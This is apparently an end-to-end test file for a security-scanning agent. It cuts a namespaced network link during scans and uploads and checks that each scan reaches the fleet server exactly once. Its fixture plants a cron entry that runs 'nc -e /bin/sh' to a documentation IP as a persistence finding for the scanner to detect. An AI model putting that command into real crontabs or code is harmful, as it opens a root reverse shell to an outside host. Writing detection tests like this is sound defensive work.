"""Zero loss across a network cut: the agent runs in a network namespace
this test creates, joined to the server by a veth pair on a private
10.231.N.0/30 link; the server listens on the host end. With the link down
the agent keeps scanning into its spool (its uploads fail at once: no
route); the link comes back and it catches up; then the link is cut for a
few seconds in the middle of an upload (the request under way stalls and
resumes, or fails and is retried later). In the end every scan the agent
made is on the server exactly once. Runs on SQLite, and on PostgreSQL with
RS_FLEET_DB=postgresql."""
import os
import shutil
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import RASOAT, Tree, check, done  # noqa: E402
from fleet_e2e import (Agent, Server, check_exactly_once, expected_findings, make_root,  # noqa: E402
                       require_backend, spooled_scans)

PASSED = 0
PID = os.getpid()
NS = f"rsnc{PID}"
HOST_IF = f"rsnc{PID % 1000000}h"
AGENT_IF = f"rsnc{PID % 1000000}a"
NET = f"10.231.{PID % 250}"
SERVER_IP = f"{NET}.1"
AGENT_IP = f"{NET}.2"


def ok(cond, message):
    global PASSED
    check(cond, message)
    PASSED += 1


def sh(*args, check_rc=True):
    p = subprocess.run(args, capture_output=True, text=True, timeout=30)
    if check_rc and p.returncode != 0:
        raise RuntimeError(f"{' '.join(args)}: {p.stderr.strip()}")
    return p


def unavailable():
    if os.geteuid() != 0:
        return "not root (network namespaces need CAP_NET_ADMIN)"
    if not shutil.which("ip"):
        return "no ip command (iproute2)"
    p = subprocess.run(["ip", "netns", "add", NS], capture_output=True, text=True)
    if p.returncode != 0:
        return f"cannot create a network namespace: {p.stderr.strip()}"
    return None


def setup_link():
    sh("ip", "link", "add", HOST_IF, "type", "veth", "peer", "name", AGENT_IF)
    sh("ip", "link", "set", AGENT_IF, "netns", NS)
    sh("ip", "addr", "add", f"{SERVER_IP}/30", "dev", HOST_IF)
    sh("ip", "link", "set", HOST_IF, "up")
    sh("ip", "netns", "exec", NS, "ip", "addr", "add", f"{AGENT_IP}/30", "dev", AGENT_IF)
    sh("ip", "netns", "exec", NS, "ip", "link", "set", AGENT_IF, "up")
    sh("ip", "netns", "exec", NS, "ip", "link", "set", "lo", "up")


def link(state):
    sh("ip", "netns", "exec", NS, "ip", "link", "set", AGENT_IF, state)


def teardown():
    sh("ip", "link", "del", HOST_IF, check_rc=False)
    sh("ip", "netns", "del", NS, check_rc=False)
    d = f"/etc/netns/{NS}"
    if os.path.isdir(d):
        shutil.rmtree(d, ignore_errors=True)


def agent_cmd(agent, *args):
    return ["ip", "netns", "exec", NS, RASOAT, "agent", *args, "--state", agent.state]


def agent_run(agent, root, *extra, timeout=80):
    p = subprocess.run(agent_cmd(agent, "run", "--once", "--root", root, "--only", "persist",
                                 "--retries", "1", "--max-backoff", "1", *extra),
                       capture_output=True, text=True, timeout=timeout)
    return p.returncode, p.stderr


def main():
    require_backend("test_fleet_netcut")
    why = unavailable()
    if why:
        print(f"test_fleet_netcut: SKIP: {why}")
        return
    try:
        setup_link()
        with Tree("rasoat-fleet-netcut-") as t:
            srv = Server(t.p("server/fleet.db"), host=SERVER_IP).start()
            try:
                scenario(t, srv)
            finally:
                srv.kill9()
    finally:
        teardown()
    done("test_fleet_netcut", PASSED)


def scenario(t, srv):
    root = make_root(t, "host", ["*/5 * * * * root nc -e /bin/sh 198.51.100.7 4444"])
    want = expected_findings(root)
    token = srv.token()
    key = srv.apikey()
    agent = Agent(t.p("agent"))
    p = subprocess.run(["ip", "netns", "exec", NS, RASOAT, "agent", "--server", srv.url, "--token", token,
                        "--state", agent.state], capture_output=True, text=True, timeout=60)
    ok(p.returncode == 0, f"the agent enrols across the link: {p.stderr}")
    agent.id = p.stdout.strip()

    # the link is down: scans go to the spool, uploads fail at once
    link("down")
    start = time.time()
    for i in range(3):
        code, err = agent_run(agent, root, "--scan")
        ok(code == 2, f"run {i} with the link down exits 2: {code} {err[-300:]}")
    ok(time.time() - start < 60, "the runs with the link down do not hang")
    made = spooled_scans(agent)
    ok(len(made) == 3, f"three scans spooled: {made}")

    # the link is back: the agent catches up
    link("up")
    code, err = agent_run(agent, root)
    ok(code == 0 and agent.spool() == [], f"caught up after the link came back: {code} {err[-300:]}")

    # more scans while cut, then a cut in the middle of the upload
    link("down")
    for i in range(4):
        agent_run(agent, root, "--scan")
    more = spooled_scans(agent)
    ok(len(more) == 4, f"four more scans spooled: {more}")
    made += more
    link("up")
    before = len(agent.spool())
    proc = subprocess.Popen(agent_cmd(agent, "run", "--once", "--root", root, "--only", "persist",
                                      "--retries", "2", "--max-backoff", "1"),
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    deadline = time.time() + 20
    while time.time() < deadline and len(agent.spool()) >= before:
        time.sleep(0.001)
    link("down")
    time.sleep(3)
    link("up")
    _, err = proc.communicate(timeout=80)
    ok(proc.returncode in (0, 2), f"the agent cut mid-upload exits 0 or 2: {proc.returncode} {err[-300:]}")
    print(f"cut mid-upload: {before} batches before, {len(agent.spool())} left after the run")
    for _ in range(3):
        if not agent.spool():
            break
        agent_run(agent, root)
    ok(agent.spool() == [], f"the spool is empty in the end: {agent.spool()}")
    ok(check_exactly_once(srv, key, {agent.id: made}, want) == 1, "every scan exactly once")


if __name__ == "__main__":
    main()
